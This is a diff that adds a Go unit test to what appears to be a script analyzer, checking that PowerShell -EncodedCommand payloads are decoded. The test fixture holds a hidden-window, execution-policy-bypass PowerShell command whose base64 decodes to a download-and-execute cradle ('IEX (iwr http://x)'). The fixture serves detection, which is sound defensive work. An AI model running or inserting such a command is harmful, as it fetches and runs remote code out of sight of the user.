@@ -275,3 +275,22 @@ PY
 		t.Fatalf("inline\n%q\nwant\n%q", got, want)
 	}
 }
+
+// TestInlineEncodedCommand: pwsh's -EncodedCommand (any prefix, after
+// options with values) is decoded from base64 of UTF-16LE into the program.
+func TestInlineEncodedCommand(t *testing.T) {
+	enc := "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA" // IEX (iwr http://x)
+	src := "powershell.exe -NoP -ExecutionPolicy Bypass -w hidden -enc " + enc + "\npwsh -EncodedCommand " + enc + "\npwsh -File a.ps1 -enc " + enc + "\n"
+	s, err := Analyze([]byte(src), "t.sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, in := range s.Inline {
+		got = append(got, fmt.Sprintf("%s@%d/%v %q", in.Interp, in.Line, in.Fixed, in.Code))
+	}
+	want := []string{`powershell.exe@1/true "IEX (iwr http://x)"`, `pwsh@2/true "IEX (iwr http://x)"`}
+	if !slices.Equal(got, want) {
+		t.Fatalf("inline %q; want %q", got, want)
+	}
+}
